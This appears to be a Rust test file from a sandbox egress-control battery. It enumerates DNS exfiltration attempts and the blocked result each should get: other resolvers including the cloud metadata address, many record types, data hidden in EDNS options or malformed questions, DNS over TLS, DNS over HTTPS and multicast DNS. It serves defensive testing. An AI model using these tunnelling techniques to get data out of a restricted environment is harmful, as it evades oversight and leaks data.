//! DNS as a way out: by another server, another port, another transport, another type, and inside a permitted question.
//!
//! Steps: ask a server of the attacker's choice for a name whose labels are the nonce; or hide the nonce in a field of a
//! question for the permitted name. Whoever recurses, forwards or resolves early carries it out.
//!
//! Guarantees: G1, G9 (any port-53 destination, DoT, DoH), G11 (NXDOMAIN, not silence), G16. Asking sends nothing.

use crate::battery::{Attack, attack, attempt};

const NO: &[&str] = &["NXDOMAIN 0"];
const NO_DATA: &[&str] = &["NOERROR 0"];
/// What stands for the permitted name.
const ADDRESS: &[&str] = &["NOERROR 1"];

const fn unknown(name: &'static str, code: &'static str) -> Attack {
    attack(name, code, NO).logged("dns-name")
}

const SERVERS: &[Attack] = &[
    unknown("UDP", "dns(v4, ask(host))"),
    unknown("UDP, by IPv6", "dns(v6, ask(host))"),
    unknown("TCP", "dns_tcp(v4, ask(host))"),
    unknown("TCP, by IPv6", "dns_tcp(v6, ask(host))"),
    unknown("a public resolver", "dns('8.8.8.8', ask(host))"),
    unknown("the proxy's own resolver", "dns('192.0.2.53', ask(host))"),
    unknown("an engine's resolver", "dns('127.0.0.11', ask(host))"),
    unknown("systemd's resolver", "dns('127.0.0.53', ask(host))"),
    unknown("the loopback address", "dns('127.0.0.1', ask(host))"),
    unknown("the loopback address, TCP", "dns_tcp('127.0.0.1', ask(host))"),
    unknown("the loopback address of IPv6", "dns('::1', ask(host))"),
    unknown("the task's own address", "dns('10.200.0.1', ask(host))"),
    unknown("the metadata address", "dns('169.254.169.254', ask(host))"),
    unknown("a mapped address", "dns('::ffff:' + v4, ask(host))"),
    unknown("from port 53", "dns(v4, ask(host), source=('0.0.0.0', 1053))"),
    attack("by the C library", "by_libc(host)", &["no-address"]).logged("dns-name"),
    unknown("below the permitted name", "dns(v4, ask(nonce + '.api.anthropic.com'))"),
    unknown("the permitted name below another", "dns(v4, ask('api.anthropic.com.' + host))"),
    unknown(
        "a name of 250 octets",
        "dns(v4, ask('.'.join([nonce, 'a' * 63, 'b' * 63, 'c' * 63, 'leak.test'])))",
    ),
    unknown("in capitals", "dns(v4, ask(host.upper()))"),
    unknown("not in host name letters", "dns(v4, ask('_dns.' + nonce + '.leak.test'))"),
];

const TYPES: &[Attack] = &[
    unknown("AAAA", "dns(v4, ask(host, 'AAAA'))"),
    unknown("TXT", "dns(v4, ask(host, 'TXT'))"),
    unknown("NULL", "dns(v4, ask(host, 'NULL'))"),
    unknown("MX", "dns(v4, ask(host, 'MX'))"),
    unknown("CNAME", "dns(v4, ask(host, 'CNAME'))"),
    unknown("NS", "dns(v4, ask(host, 'NS'))"),
    unknown("SOA", "dns(v4, ask(host, 'SOA'))"),
    unknown("SRV", "dns(v4, ask('_https._tcp.' + host, 'SRV'))"),
    unknown("PTR", "dns(v4, ask(nonce + '.113.0.203.in-addr.arpa', 'PTR'))"),
    unknown("HTTPS", "dns(v4, ask(host, 'HTTPS'))"),
    unknown("SVCB", "dns(v4, ask('_dns.' + host, 'SVCB'))"),
    unknown("ANY", "dns(v4, ask(host, 'ANY'))"),
    unknown("DNSKEY", "dns(v4, ask(host, 'DNSKEY'))"),
    unknown("CAA", "dns(v4, ask(host, 'CAA'))"),
    unknown("AXFR", "dns_tcp(v4, ask(host, 'AXFR'))"),
    unknown("IXFR", "dns_tcp(v4, ask(host, 'IXFR'))"),
    attack("another class", "dns(v4, ask(host, 'TXT', clas=3))", &["REFUSED 0"]).logged("dns-type"),
    attack("class ANY", "dns(v4, ask(host, clas=255))", &["REFUSED 0"]).logged("dns-type"),
];

/// The permitted name is answered from here; what hides in the question goes nowhere.
const HIDDEN: &[Attack] = &[
    attack("an option of EDNS", "dns(v4, ask(GOOD, after=edns(N), extra=1))", ADDRESS),
    attack("an option of EDNS, TCP", "dns_tcp(v4, ask(GOOD, after=edns(N), extra=1))", ADDRESS),
    attack("TXT with an option", "dns(v4, ask(GOOD, 'TXT', after=edns(N), extra=1))", NO_DATA),
    attack("HTTPS with an option", "dns(v4, ask(GOOD, 'HTTPS', after=edns(N), extra=1))", NO_DATA),
    attack("AAAA with an option", "dns(v4, ask(GOOD, 'AAAA', after=edns(N), extra=1))", NO_DATA),
    attack("ANY with an option", "dns(v4, ask(GOOD, 'ANY', after=edns(N), extra=1))", NO_DATA),
    attack("octets behind the question", "dns(v4, ask(GOOD, after=N))", &["FORMERR 0", "NOERROR 1"]),
    attack(
        "two questions",
        "dns(v4, ask(GOOD, questions=2, after=labels(host) + u16(1) + u16(1)))",
        &["FORMERR 0"],
    )
    .logged("dns-malformed"),
    attack(
        "a record that is no question",
        "dns(v4, ask(GOOD, after=labels(host) + u16(16) + u16(1) + bytes(4) + vector(2, N), extra=1))",
        &["FORMERR 0", "NOERROR 1"],
    ),
    attack("an update", "dns(v4, ask(host, flags=0x2800))", &["NOTIMP 0", "FORMERR 0"]),
    attack("a notification", "dns(v4, ask(host, flags=0x2000))", &["NOTIMP 0", "FORMERR 0"]),
    attack("a question cut short", "dns(v4, ask(host)[:-3])", &["FORMERR 0"]).logged("dns-malformed"),
    attack("a pointer to itself", "dns(v4, ask(GOOD)[:12] + b'\\xc0\\x0c' + bytes(4) + N)", &["FORMERR 0"])
        .logged("dns-malformed"),
];

/// To these no answer would make sense, so none comes; the time-out is the resolver's own.
const OTHER_WAYS: &[Attack] = &[
    attack("DNS over TLS", "tcp(v4, 853, hello(sni(host)))", &["alert 49"]).logged("port-not-allowed"),
    attack("DNS over TLS to port 53", "tcp(v4, 53, hello(sni(host)))", &["ECONNRESET"])
        .patient()
        .control("tcp(v4, 853, hello(sni(host)))"),
    attack(
        "DNS over HTTPS of another",
        "tls(v4, 443, 'dns.google', '/dns-query')",
        &["ssl TLSV1_ALERT_ACCESS_DENIED"],
    )
    .logged("name-not-allowed"),
    attack(
        "DNS over HTTPS at an address",
        "tls('8.8.8.8', 443, host, '/dns-query')",
        &["ssl TLSV1_ALERT_ACCESS_DENIED"],
    )
    .logged("name-not-allowed"),
    attack("DNS over QUIC", "udp(v4, 853, N)", &["EPERM"]),
    attack("multicast DNS", "udp('224.0.0.251', 5353, ask(host), connected=False)", &["EPERM"])
        .without_control("the lab joins no group; the capable level sends it all the same"),
    attack("multicast DNS at an address", "udp(v4, 5353, ask(host))", &["EPERM"]),
    attack("LLMNR at an address", "udp(v4, 5355, ask(host))", &["EPERM"]),
    attack("NetBIOS names", "udp(v4, 137, ask(host))", &["EPERM"]),
    attack("a request to port 53", "tcp(v4, 53, get(host))", &["ECONNRESET"])
        .patient()
        .control("tcp(v4, 80, get(host))"),
];

#[test]
fn any_server() {
    attempt("any server", SERVERS);
}

#[test]
fn any_type() {
    attempt("any type", TYPES);
}

#[test]
fn hidden_in_questions() {
    attempt("hidden in questions", HIDDEN);
}

#[test]
fn dns_by_other_ways() {
    attempt("DNS by other ways", OTHER_WAYS);
}
